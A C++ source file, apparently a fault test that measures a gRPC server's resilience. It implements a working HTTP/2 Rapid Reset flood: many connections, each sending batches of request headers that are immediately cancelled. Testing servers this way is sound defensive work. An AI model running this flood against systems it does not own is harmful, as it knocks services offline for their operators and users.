#include "tests/fault/rapid_reset.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <sstream>
#include <thread>
#include <vector>

namespace brevis::fault {
namespace {

using Clock = std::chrono::steady_clock;

constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr uint8_t kData = 0x0, kHeaders = 0x1, kRstStream = 0x3,
                  kSettings = 0x4, kPing = 0x6, kGoAway = 0x7;
constexpr uint8_t kEndStream = 0x1, kEndHeaders = 0x4, kAck = 0x1;
// A gRPC message of zero bytes: not compressed, length 0.
constexpr char kEmptyMessage[5] = {0, 0, 0, 0, 0};
constexpr uint32_t kCancel = 0x8;
// Stream pairs written per batch: large enough to keep the socket full.
constexpr int kBatch = 64;
// Client stream ids are odd and below 2^31; a connection that used them up
// is replaced.
constexpr uint32_t kLastStreamId = (1u << 31) - 2 * kBatch - 1;

void AppendFrameHeader(std::string* out, size_t length, uint8_t type,
                       uint8_t flags, uint32_t stream) {
  out->push_back(static_cast<char>((length >> 16) & 0xff));
  out->push_back(static_cast<char>((length >> 8) & 0xff));
  out->push_back(static_cast<char>(length & 0xff));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  stream &= 0x7fffffffu;  // the reserved bit stays clear
  for (int shift = 24; shift >= 0; shift -= 8) {
    out->push_back(static_cast<char>((stream >> shift) & 0xff));
  }
}

// An HPACK string literal, not Huffman coded (every value here is short).
void AppendHpackString(std::string* out, const std::string& text) {
  out->push_back(static_cast<char>(text.size()));
  out->append(text);
}

// The request headers of a gRPC call, in HPACK without the dynamic table:
// :method POST, :scheme http, :path, :authority, content-type, te.
std::string RequestHeaderBlock(const std::string& method,
                               const std::string& authority) {
  std::string block;
  block.push_back(static_cast<char>(0x83));  // :method POST (static 3)
  block.push_back(static_cast<char>(0x86));  // :scheme http (static 6)
  block.push_back(0x04);                     // literal, name :path (4)
  AppendHpackString(&block, method);
  block.push_back(0x01);  // literal, name :authority (1)
  AppendHpackString(&block, authority);
  block.push_back(0x0f);  // literal, name content-type (31 = 15 + 16)
  block.push_back(0x10);
  AppendHpackString(&block, "application/grpc");
  block.push_back(0x00);  // literal, new name
  AppendHpackString(&block, "te");
  AppendHpackString(&block, "trailers");
  return block;
}

struct Counters {
  std::atomic<int64_t> streams{0};
  std::atomic<int64_t> opened{0};
  std::atomic<int64_t> closed_by_server{0};
  std::atomic<int64_t> connect_failures{0};
};

int Connect(const std::string& address, const std::string& source,
            Clock::time_point end) {
  size_t colon = address.rfind(':');
  sockaddr_in peer{};
  peer.sin_family = AF_INET;
  peer.sin_port = htons(static_cast<uint16_t>(
      std::stoi(address.substr(colon == std::string::npos ? 0 : colon + 1))));
  if (colon == std::string::npos ||
      inet_pton(AF_INET, address.substr(0, colon).c_str(), &peer.sin_addr) !=
          1) {
    return -1;
  }
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  if (!source.empty()) {
    sockaddr_in local{};
    local.sin_family = AF_INET;
    if (inet_pton(AF_INET, source.c_str(), &local.sin_addr) != 1 ||
        bind(fd, reinterpret_cast<sockaddr*>(&local), sizeof local) != 0) {
      close(fd);
      return -1;
    }
  }
  if (connect(fd, reinterpret_cast<sockaddr*>(&peer), sizeof peer) != 0 &&
      errno != EINPROGRESS) {
    close(fd);
    return -1;
  }
  pollfd waiting{fd, POLLOUT, 0};
  int left = static_cast<int>(std::max<int64_t>(
      1,
      std::chrono::duration_cast<std::chrono::milliseconds>(end - Clock::now())
          .count()));
  int error = 0;
  socklen_t length = sizeof error;
  if (poll(&waiting, 1, std::min(left, 1000)) != 1 ||
      getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length) != 0 ||
      error != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

// Answers what a client must answer in `in` (whole frames only, consumed);
// false when the server said GOAWAY.
bool HandleServerFrames(std::string* in, std::string* out) {
  size_t at = 0;
  while (in->size() - at >= 9) {
    const auto* header = reinterpret_cast<const uint8_t*>(in->data() + at);
    size_t length = (size_t{header[0]} << 16) | (size_t{header[1]} << 8) |
                    size_t{header[2]};
    if (in->size() - at < 9 + length) break;
    uint8_t type = header[3];
    uint8_t flags = header[4];
    if (type == kGoAway) return false;
    if (type == kSettings && (flags & kAck) == 0) {
      AppendFrameHeader(out, 0, kSettings, kAck, 0);
    } else if (type == kPing && (flags & kAck) == 0 && length == 8) {
      AppendFrameHeader(out, 8, kPing, kAck, 0);
      out->append(in->data() + at + 9, 8);
    }
    at += 9 + length;
  }
  in->erase(0, at);
  return true;
}

void FinishConnection(int fd, Counters* counters, bool server_ended) {
  if (server_ended) ++counters->closed_by_server;
  close(fd);
}

// One connection after another until `end` (or options.max_streams).
void Flood(const RapidResetOptions& options, Clock::time_point end,
           Counters* counters) {
  if (options.low_priority) {
    setpriority(PRIO_PROCESS, static_cast<id_t>(gettid()), 19);
  }
  const std::string headers =
      RequestHeaderBlock(options.method, options.address);
  while (Clock::now() < end &&
         (options.max_streams == 0 ||
          counters->streams.load() < options.max_streams)) {
    int fd = Connect(options.address, options.source_address, end);
    if (fd < 0) {
      ++counters->connect_failures;
      std::this_thread::sleep_for(std::chrono::milliseconds(10));
      continue;
    }
    ++counters->opened;
    std::string out(kPreface, sizeof kPreface - 1);
    AppendFrameHeader(&out, 0, kSettings, 0, 0);
    std::string in;
    uint32_t next_stream = 1;
    int64_t pending_streams = 0;  // written once `out` is empty
    bool server_ended = false;
    while (Clock::now() < end && next_stream < kLastStreamId) {
      if (out.empty()) {
        counters->streams += pending_streams;
        pending_streams = 0;
        if (options.max_streams > 0 &&
            counters->streams.load() >= options.max_streams) {
          return FinishConnection(fd, counters, false);
        }
        for (int i = 0; i < kBatch; ++i, next_stream += 2) {
          AppendFrameHeader(&out, headers.size(), kHeaders, kEndHeaders,
                            next_stream);
          out.append(headers);
          if (options.with_request) {
            AppendFrameHeader(&out, sizeof kEmptyMessage, kData, kEndStream,
                              next_stream);
            out.append(kEmptyMessage, sizeof kEmptyMessage);
          }
          AppendFrameHeader(&out, 4, kRstStream, 0, next_stream);
          for (int shift = 24; shift >= 0; shift -= 8) {
            out.push_back(static_cast<char>((kCancel >> shift) & 0xff));
          }
          ++pending_streams;
        }
      }
      pollfd ready{fd, POLLIN | POLLOUT, 0};
      if (poll(&ready, 1, 50) <= 0) continue;
      if (ready.revents & (POLLIN | POLLHUP | POLLERR)) {
        char buffer[16384];
        ssize_t n = read(fd, buffer, sizeof buffer);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) {
          server_ended = true;
          break;
        }
        if (n > 0) {
          in.append(buffer, static_cast<size_t>(n));
          if (!HandleServerFrames(&in, &out)) {
            server_ended = true;
            break;
          }
        }
      }
      if (ready.revents & POLLOUT) {
        ssize_t n = send(fd, out.data(), out.size(), MSG_NOSIGNAL);
        if (n > 0) {
          out.erase(0, static_cast<size_t>(n));
        } else if (n < 0 && errno != EAGAIN && errno != EINTR) {
          server_ended = true;
          break;
        }
      }
    }
    if (out.empty()) counters->streams += pending_streams;
    FinishConnection(fd, counters, server_ended);
  }
}

}  // namespace

double RapidResetResult::StreamsPerSecond() const {
  return elapsed.count() > 0 ? streams * 1000.0 / elapsed.count() : 0;
}

std::string RapidResetResult::Describe() const {
  std::ostringstream text;
  text << streams << " streams reset in " << elapsed.count() << " ms ("
       << static_cast<int64_t>(StreamsPerSecond()) << "/s) over "
       << connections_opened << " connections; " << connections_closed_by_server
       << " closed by the server, " << connect_failures
       << " connection attempts failed";
  return text.str();
}

RapidResetResult RunRapidReset(const RapidResetOptions& options) {
  Counters counters;
  Clock::time_point start = Clock::now();
  Clock::time_point end = start + options.duration;
  std::vector<std::thread> threads;
  for (int i = 0; i < options.connections; ++i) {
    threads.emplace_back(Flood, std::cref(options), end, &counters);
  }
  for (std::thread& thread : threads) thread.join();
  RapidResetResult result;
  result.streams = counters.streams;
  result.connections_opened = counters.opened;
  result.connections_closed_by_server = counters.closed_by_server;
  result.connect_failures = counters.connect_failures;
  result.elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(
      Clock::now() - start);
  return result;
}

}  // namespace brevis::fault
